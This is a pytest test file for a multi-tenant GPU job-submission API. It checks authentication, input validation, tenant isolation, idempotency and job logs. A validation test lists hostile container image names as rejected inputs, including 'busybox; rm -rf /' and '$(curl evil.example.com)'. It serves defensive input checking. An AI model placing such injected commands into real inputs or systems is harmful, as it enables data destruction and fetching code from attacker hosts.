from __future__ import annotations

import pytest
from rest_framework.test import APIClient

from factory.models import Cluster, Pool
from jobs import lifecycle
from jobs.choices import JobState
from jobs.models import Job, JobEvent
from tests.support import admit

pytestmark = pytest.mark.django_db

URL = "/api/v1/jobs/"


def client_for(user) -> APIClient:
    client = APIClient()
    token = client.post("/api/v1/auth/token/", {"username": user.username, "password": "pw-" + user.username})
    assert token.status_code == 200, token.content
    client.credentials(HTTP_AUTHORIZATION=f"Token {token.json()['token']}")
    return client


def body(**overrides) -> dict:
    data = {
        "tenant": "demo-lab",
        "name": "train-1",
        "command": "python train.py",
        "gpu_type": "h100",
        "gpu_count": 2,
        "time_limit_minutes": 60,
        "env": {"EPOCHS": "3"},
    }
    data.update(overrides)
    return data


@pytest.fixture
def api(owner, cluster):
    return client_for(owner)


def test_token_needs_the_right_password(owner):
    response = APIClient().post("/api/v1/auth/token/", {"username": "researcher", "password": "wrong"})
    assert response.status_code == 400
    assert "token" not in response.json()


def test_anonymous_requests_are_refused(cluster):
    assert APIClient().get(URL).status_code == 401


def test_create_job_answers_202_and_records_submission(api, owner):
    response = api.post(URL, body(), format="json")
    assert response.status_code == 202, response.content
    data = response.json()
    assert data["state"] == "pending"
    assert (data["tenant"], data["owner"], data["gpu_type"], data["gpu_count"]) == (
        "demo-lab",
        "researcher",
        "h100",
        2,
    )
    assert response["Location"] == f"/jobs/{data['id']}/"
    job = Job.objects.get(pk=data["id"])
    assert job.env == {"EPOCHS": "3"} and job.owner == owner
    assert list(job.events.values_list("message", flat=True)) == ["Submitted by researcher"]


@pytest.mark.parametrize(
    ("overrides", "field"),
    [
        ({"gpu_count": 0}, "gpu_count"),
        ({"gpu_count": -1}, "gpu_count"),
        ({"gpu_count": 5}, "gpu_count"),  # the largest h100 pool has 4
        ({"gpu_type": "tpu"}, "gpu_type"),
        ({"gpu_type": "h1\x00"}, "gpu_type"),  # PostgreSQL refuses NUL in a query
        ({"command": ""}, "command"),
        ({"command": "   "}, "command"),
        ({"command": "x" * (64 * 1024 + 1)}, "command"),
        ({"name": "bad name"}, "name"),
        ({"name": "a" * 65}, "name"),
        ({"name": "rm;-rf"}, "name"),
        ({"name": ""}, "name"),
        ({"env": {"1BAD": "x"}}, "env"),
        ({"env": {"BAD-NAME": "x"}}, "env"),
        ({"env": {"GOOD": 5}}, "env"),
        ({"env": ["A=1"]}, "env"),
        ({"env": {"CUDA_VISIBLE_DEVICES": "0"}}, "env"),
        ({"time_limit_minutes": 0}, "time_limit_minutes"),
        ({"time_limit_minutes": 14 * 24 * 60 + 1}, "time_limit_minutes"),
        ({"cpus": 0}, "cpus"),
        ({"priority": 1000}, "priority"),
        ({"colour": "blue"}, "colour"),
    ],
)
def test_bad_input_gets_a_message_per_field_and_creates_nothing(api, overrides, field):
    response = api.post(URL, body(**overrides), format="json")
    assert response.status_code == 400, response.content
    errors = response.json()
    assert field in errors, errors
    assert all(isinstance(m, str) and m for m in errors[field])
    assert Job.objects.count() == 0 and JobEvent.objects.count() == 0


@pytest.mark.parametrize(
    "image",
    [
        "busybox; rm -rf /",
        "$(curl evil.example.com)",
        "`id`",
        "busybox\x00",
        "busy box",
        "busybox\nrm",
        "bü",
        "nvcr.io/nvidia/../pytorch",
        "docker.io/MyOrg/image",
        "-busybox",
        "busybox:" + "t" * 129,
        "registry.example.com/" + "a" * 500,
    ],
)
def test_hostile_image_names_get_a_field_error_and_create_nothing(api, image):
    response = api.post(URL, body(image=image), format="json")
    assert response.status_code == 400, response.content
    assert list(response.json()) == ["image"]
    assert Job.objects.count() == 0 and JobEvent.objects.count() == 0


@pytest.fixture
def kubernetes(h100):
    """A Kubernetes cluster with 8 h100 (the local cluster has 4) running NGC images only."""
    connection = {"in_cluster": True, "allowed_images": ["nvcr.io/nvidia/"]}
    cluster = Cluster.objects.create(slug="k8s", name="K8s", kind="kubernetes", connection=connection)
    Pool.objects.create(cluster=cluster, gpu_type=h100, capacity=8)
    return cluster


def test_an_image_is_checked_against_the_clusters_that_could_run_the_job(api, kubernetes):
    big = body(gpu_count=8, image="ghcr.io/my-lab/trainer:2")  # only the Kubernetes cluster fits it
    response = api.post(URL, big, format="json")
    assert response.status_code == 400
    assert response.json() == {
        "image": [
            "No cluster that could run this job runs this image: k8s runs only images from nvcr.io/nvidia/."
        ]
    }
    assert Job.objects.count() == 0
    # Two GPUs fit on the local cluster as well, which runs no containers: the image is no obstacle.
    assert api.post(URL, body(image="ghcr.io/my-lab/trainer:2"), format="json").status_code == 202
    assert (
        api.post(URL, body(gpu_count=8, image="nvcr.io/nvidia/pytorch:24.05-py3"), format="json").status_code
        == 202
    )
    kubernetes.connection = {
        **kubernetes.connection,
        "allowed_images": ["nvcr.io/nvidia/", "ghcr.io/my-lab/"],
    }
    kubernetes.save()  # the cached rules are forgotten
    assert api.post(URL, big, format="json").status_code == 202


def test_command_of_exactly_64_kib_is_accepted(api):
    assert api.post(URL, body(command="x" * 64 * 1024), format="json").status_code == 202


def test_missing_fields_are_named(api):
    response = api.post(URL, {}, format="json")
    assert response.status_code == 400
    assert {"tenant", "name", "command", "gpu_type", "gpu_count", "time_limit_minutes"} <= set(
        response.json()
    )


def test_tenant_you_are_not_a_member_of_is_a_404(api, other_tenant):
    for slug in ("other-lab", "no-such-lab"):
        response = api.post(URL, body(tenant=slug), format="json")
        assert response.status_code == 404
    assert Job.objects.count() == 0


def test_idempotency_key_returns_the_first_job(api):
    first = api.post(URL, body(), format="json", HTTP_IDEMPOTENCY_KEY="abc-1")
    again = api.post(URL, body(), format="json", HTTP_IDEMPOTENCY_KEY="abc-1")
    assert first.status_code == again.status_code == 202
    assert first.json()["id"] == again.json()["id"]
    assert again["Idempotent-Replayed"] == "true"
    assert Job.objects.count() == 1
    other = api.post(URL, body(), format="json", HTTP_IDEMPOTENCY_KEY="abc-2")
    assert other.json()["id"] != first.json()["id"]


def test_idempotency_key_reused_for_another_request_is_a_conflict(api):
    api.post(URL, body(), format="json", HTTP_IDEMPOTENCY_KEY="abc-1")
    response = api.post(URL, body(name="different"), format="json", HTTP_IDEMPOTENCY_KEY="abc-1")
    assert response.status_code == 409
    assert Job.objects.count() == 1


def test_idempotency_keys_are_per_user(api, teammate):
    api.post(URL, body(), format="json", HTTP_IDEMPOTENCY_KEY="same")
    response = client_for(teammate).post(URL, body(), format="json", HTTP_IDEMPOTENCY_KEY="same")
    assert response.status_code == 202
    assert Job.objects.count() == 2


def test_list_filters_and_cursor_pagination(api, make_job, a100):
    for i in range(3):
        make_job(name=f"h-{i}")
    make_job(name="a-0", gpu_type=a100)
    Job.objects.filter(name="h-0").update(state=JobState.FAILED)
    response = api.get(URL, {"gpu_type": "h100", "page_size": 1})
    page = response.json()
    assert [j["name"] for j in page["results"]] == ["h-2"]
    names = [j["name"] for j in page["results"]]
    while page["next"]:
        page = api.get(page["next"]).json()
        names += [j["name"] for j in page["results"]]
    assert names == ["h-2", "h-1", "h-0"]
    failed = api.get(URL, {"state": "failed"}).json()["results"]
    assert [j["name"] for j in failed] == ["h-0"]
    assert api.get(URL, {"state": "nonsense"}).status_code == 400


def test_member_sees_only_their_tenants_jobs(api, make_job, outsider, other_tenant):
    mine = make_job(name="mine")
    theirs = make_job(name="theirs", tenant=other_tenant, owner=outsider)
    assert [j["name"] for j in api.get(URL).json()["results"]] == ["mine"]
    for path in ("", "cancel/", "logs/", "events/"):
        method = api.post if path == "cancel/" else api.get
        assert method(f"{URL}{theirs.pk}/{path}").status_code == 404
    assert api.get(URL, {"tenant": "other-lab"}).status_code == 400  # unknown to this user
    outsider_api = client_for(outsider)
    assert outsider_api.get(f"{URL}{mine.pk}/").status_code == 404
    assert outsider_api.post(f"{URL}{mine.pk}/cancel/").status_code == 404
    mine.refresh_from_db()
    assert mine.state == JobState.PENDING


def test_platform_admin_sees_every_tenant(platform_admin, make_job, outsider, other_tenant):
    make_job(name="a")
    make_job(name="b", tenant=other_tenant, owner=outsider)
    names = {j["name"] for j in client_for(platform_admin).get(URL).json()["results"]}
    assert names == {"a", "b"}


def test_owner_cancels_pending_job(api, make_job):
    job = make_job()
    response = api.post(f"{URL}{job.pk}/cancel/")
    assert response.status_code == 202
    assert response.json()["state"] == "cancelled"
    again = api.post(f"{URL}{job.pk}/cancel/")
    assert again.status_code == 409


def test_teammate_cannot_cancel_but_tenant_admin_can(make_job, teammate, tenant_admin, cluster):
    job = make_job()
    assert client_for(teammate).post(f"{URL}{job.pk}/cancel/").status_code == 403
    assert client_for(tenant_admin).post(f"{URL}{job.pk}/cancel/").status_code == 202


def test_events_and_logs(api, make_job, cluster):
    from jobs.tasks import dispatch_jobs
    from tests.jobs.test_dispatch import sync_until

    job = make_job(command="printf 'line1\\nline2\\n'")
    admit(job, cluster)
    dispatch_jobs([job.pk])
    sync_until(job, lambda j: j.is_terminal)
    events = api.get(f"{URL}{job.pk}/events/").json()
    assert [e["state"] for e in events] == ["pending", "admitted", "submitted", "running", "succeeded"]
    later = api.get(f"{URL}{job.pk}/events/", {"after": events[2]["id"]}).json()
    assert [e["state"] for e in later] == ["running", "succeeded"]
    log = api.get(f"{URL}{job.pk}/logs/").json()
    assert log == {"offset": 0, "next_offset": 12, "text": "line1\nline2\n", "complete": True}
    tail = api.get(f"{URL}{job.pk}/logs/", {"offset": 6}).json()
    assert tail["text"] == "line2\n"
    assert api.get(f"{URL}{job.pk}/logs/", {"offset": -1}).status_code == 400
    assert api.get(f"{URL}{job.pk}/logs/", {"offset": "x"}).status_code == 400


def test_logs_of_a_job_not_yet_placed_are_empty(api, make_job):
    job = make_job()
    assert api.get(f"{URL}{job.pk}/logs/").json() == {
        "offset": 0,
        "next_offset": 0,
        "text": "",
        "complete": False,
    }


def test_openapi_schema_is_served(api):
    response = api.get("/api/v1/schema/", HTTP_ACCEPT="application/vnd.oai.openapi+json")
    assert response.status_code == 200
    schema = response.json()
    assert "/api/v1/jobs/" in schema["paths"]
    assert "/api/v1/jobs/{id}/cancel/" in schema["paths"]
    assert "/api/v1/tenants/{tenant_slug}/members/" in schema["paths"]


def test_pending_jobs_show_their_reason_and_queue_position(api, make_job, a100):
    first = make_job(name="first")
    second = make_job(name="second")
    urgent = make_job(name="urgent", priority=5)
    other_type = make_job(name="other", gpu_type=a100)
    second.explain_wait("tenant quota h100: 4 of 4 in use, no idle GPUs to borrow")
    positions = {j["name"]: j["queue_position"] for j in api.get(URL).json()["results"]}
    assert positions == {"urgent": 1, "first": 2, "second": 3, "other": 1}
    data = api.get(f"{URL}{second.pk}/").json()
    assert data["queue_position"] == 3
    assert data["reason"] == "tenant quota h100: 4 of 4 in use, no idle GPUs to borrow"
    lifecycle.cancel(first)
    assert api.get(f"{URL}{first.pk}/").json()["queue_position"] is None
    assert api.get(f"{URL}{second.pk}/").json()["queue_position"] == 2
    assert urgent.pk and other_type.pk
